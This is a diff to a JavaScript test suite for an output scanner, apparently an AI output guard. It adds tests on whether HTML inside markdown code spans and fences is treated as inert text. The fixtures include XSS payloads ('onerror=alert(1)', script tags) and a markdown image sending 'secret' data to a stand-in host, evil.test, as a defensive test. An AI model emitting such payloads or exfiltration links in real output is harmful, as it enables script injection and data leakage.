@@ -342,6 +342,50 @@ describe("output checks and redaction", () => {
     assert.ok(!found.includes("data_in_link"), "the allowlisted link passes");
   });
 
+  it("markup inside markdown code is text; outside it, after it, or with codeIsText off it is active", () => {
+    const canary = makeCanary();
+    const code = [
+      "Use `<script>` with care.",
+      "Example: ``<img src=x onerror=alert(1)>`` is an XSS vector.",
+      '```html\n<button onclick="go()">Go</button>\n<script>run()</script>\n```',
+      "~~~\n![p](https://evil.test/p.png?d=secret)\n~~~~",
+      "```\n<iframe src=x></iframe>", // unclosed: code to the end
+      '1. Install:\n   ```html\n   <button onclick="go()">Go</button>\n   ```\n2. Done', // a fence in a list item
+      "> Use `<script>` here.",
+    ];
+    for (const text of code) assert.deepEqual(types(findUnsafeOutput(text)), [], text);
+    const active = [
+      "```\ncode\n```\n<script>run()</script>", // after the closing fence
+      "````\n<b>\n```\n````\n<img src=a onerror=b>", // a shorter run does not close a longer fence
+      "    ```\n<script>x()</script>", // four spaces: not a fence
+      "a ` b\n<script>x()</script> ` c", // a span does not cross lines
+      `\`${"x".repeat(200)}<script>x()</script>\``, // too long for an inline span
+      "``<script>x()</script>`", // runs of different lengths do not pair
+      "   ```\n<iframe src=x></iframe>", // the fence ends before a line indented less (its list item ended)
+      "- a\n\n   ```\n<img src=x onerror=alert(1)>",
+      // What CommonMark does not call code, whatever the backticks: an info string with a backtick is no
+      // fence; a backtick escaped, inside a tag or inside a link's title opens no span; inside an HTML
+      // block (also behind ">") nothing is markdown.
+      "``` x`\n<img src=x onerror=alert(1)>",
+      "\\`<img src=x onerror=alert(1)>\\`",
+      '<b title="`">x</b><img src=x onerror=alert(1)>`',
+      '[x](https://a.example/ "`")<img src=x onerror=alert(1)>`',
+      "<div>\n`<img src=x onerror=alert(1)>`",
+      "> <div>\n> `<img src=x onerror=alert(1)>`",
+      "<div>\n```\n<img src=x onerror=alert(1)>\n```",
+      "<b\ntitle='`'><img src=x onerror=alert(1)>`",
+      "a <b\ntitle='`'><img src=x onerror=alert(1)>`", // a tag open over two lines of a paragraph
+    ];
+    for (const text of active) assert.ok(types(findUnsafeOutput(text)).length > 0, text);
+    assert.deepEqual(types(findUnsafeOutput("`<script>`", { codeIsText: false })), ["html_script"]);
+    assert.deepEqual(types(findUnsafeOutput(`\`${canary}\``, { canaries: [canary] })), ["canary"]);
+    assert.notEqual(new Guard().scan("```\n<script>run()</script>\n```", { direction: "output" }).verdict, "block");
+    assert.equal(
+      new Guard({ codeIsText: false }).scan("```\n<script>run()</script>\n```", { direction: "output" }).verdict,
+      "block",
+    );
+  });
+
   it("redacts by placeholder, mask or keyed hash, and finds values marked secret", () => {
     const text = "mail a@b.co and key sk_live_4eC39HqLyjWDarjtT1zdp7dc";
     const findings = [...findPii(text), ...findSecrets(text)];
@@ -405,6 +449,10 @@ describe("every scanner is linear-time on adversarial input", () => {
     invisible: "a\u200b",
     spaced: "a ",
     separated: "a\\",
+    code_spans: "`<a onx=1>` ",
+    unpaired_backticks: "` <a onx=1> ``",
+    fences: "```\n<a onx=1>\n",
+    list_prefixes: "- 1. > <a onx=1>\n- -  -  -  x\n",
   };
   for (const [name, unit] of Object.entries(inputs)) {
     it(name, () => {
